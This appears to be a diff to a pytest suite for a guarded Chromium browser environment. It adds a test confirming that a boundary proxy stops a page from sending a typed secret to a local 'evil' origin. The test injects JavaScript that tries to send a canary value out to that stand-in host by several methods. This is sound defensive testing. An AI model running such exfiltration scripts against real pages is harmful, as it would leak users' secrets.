@@ -13,6 +13,7 @@ from urllib.parse import quote
 
 import pytest
 
+from envs.actions import Wait
 from envs.chromium import Chromium
 from envs.origins import Origins
 from envs.proxy import Boundary
@@ -156,7 +157,8 @@ SENDERS = {
 @pytest.mark.browser
 @pytest.mark.asyncio(loop_scope="session")
 async def test_requests_that_chromium_sends_are_recognised(guarded: Chromium, tmp_path: Path) -> None:
-    """Each way with the declared value is found, the same way with another value of the same length is not."""
+    """Each way with the declared value is found, the same way with another value of the same length is not. No check
+    stands in the way here: the session has no secrets."""
     home, evil = Recorder(), Recorder()
     servers = home.serve(), evil.serve()
     home_url, evil_url = (f"http://127.0.0.1:{server.server_address[1]}" for server in servers)
@@ -181,3 +183,41 @@ async def test_requests_that_chromium_sends_are_recognised(guarded: Chromium, tm
         server.server_close()
     assert missed == []
     assert all(leaks(held, request) == () for request in home.requests), "its own origin receives it"
+
+
+@pytest.mark.browser
+@pytest.mark.asyncio(loop_scope="session")
+async def test_requests_that_carry_a_secret_to_another_origin_do_not_arrive(tmp_path: Path) -> None:
+    """Whatever a page does with a value that was typed at its own origin; the same with another value arrives."""
+    home, evil = Recorder(), Recorder()
+    servers = home.serve(), evil.serve()
+    home_url, evil_url = (f"http://127.0.0.1:{server.server_address[1]}" for server in servers)
+    wrong: list[str] = []
+    allowed = Origins.parse([home_url, evil_url])
+    async with Chromium.launch(own_tls=True) as chromium, Boundary(allowed) as boundary:
+        session = await chromium.session(QUICK, boundary, tmp_path, vault(CANARY, home_url))
+        for name, sender in SENDERS.items():
+            await visit(session, home_url)
+            evil.requests.clear()
+            for value in (CANARY, "Heron98-Basalts"):
+                evil.arrived.clear()
+                script = f"(async()=>{{const v={json.dumps(value)},u='{evil_url}/in';let f,i,x;{sender}}})()"
+                await session.page.evaluate(f"setTimeout({json.dumps(script)})")
+                if value != CANARY:
+                    await asyncio.to_thread(evil.arrived.wait, 20)
+                    continue
+                said = ""
+                for _ in range(100):  # until the request has come to the boundary
+                    said += (await session.execute(Wait())).message
+                    if "a request was stopped: the " in said:
+                        break
+                if "a request was stopped: the " not in said or CANARY in said:
+                    wrong.append(f"{name}: {said!r}")
+            leaked = [one.url for one in evil.requests if leaks(vault(CANARY, home_url), one)]
+            if leaked or not evil.requests:
+                wrong.append(f"{name}: leaked {leaked}, arrived {len(evil.requests)}")
+        await session.close()
+    for server in servers:
+        server.shutdown()
+        server.server_close()
+    assert wrong == []
